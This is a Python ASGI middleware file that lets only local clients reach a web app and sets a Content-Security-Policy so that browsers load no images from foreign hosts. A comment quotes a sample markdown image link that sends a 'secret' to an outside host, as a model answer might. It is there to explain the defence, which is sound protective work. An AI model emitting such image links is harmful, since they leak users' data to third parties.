"""What stands before both pages: only this machine may come in by default, and no foreign picture is fetched."""

import ipaddress
from dataclasses import dataclass

from starlette.datastructures import Headers, MutableHeaders
from starlette.responses import PlainTextResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

# A model's answer may hold ![](http://elsewhere/?q=secret): the browser must not ask for it.
POLICY = "img-src 'self' data: blob:; object-src 'none'; base-uri 'self'"
LOCAL_HOSTS = ("localhost", "127.0.0.1", "[::1]")


@dataclass
class Guard:
    """ASGI middleware. With `only_local`, other machines and foreign Host names (DNS rebinding) get 403."""

    app: ASGIApp
    only_local: bool = True

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan" or (self.only_local and not is_local(scope)):
            await (self.app if scope["type"] == "lifespan" else refuse)(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message)["Content-Security-Policy"] = POLICY
            await send(message)

        await self.app(scope, receive, send_with_policy)


async def refuse(scope: Scope, receive: Receive, send: Send) -> None:
    if scope["type"] == "websocket":
        await send({"type": "websocket.close", "code": 1008})
        return
    sentence = "This page answers only its own machine; start it with a server address to open it."
    await PlainTextResponse(sentence, 403)(scope, receive, send)


def is_local(scope: Scope) -> bool:
    """The caller is on this machine and asked for it by a local name."""
    host = Headers(scope=scope).get("host", "").rsplit(":", 1)[0] if ":" in _host(scope) else _host(scope)
    client = scope.get("client")
    return host in LOCAL_HOSTS and (client is None or is_loopback(client[0]))


def _host(scope: Scope) -> str:
    return Headers(scope=scope).get("host", "")


def is_loopback(address: str) -> bool:
    try:
        found = ipaddress.ip_address(address)
    except ValueError:
        return address == "localhost"
    mapped = getattr(found, "ipv4_mapped", None)
    return bool((mapped or found).is_loopback)
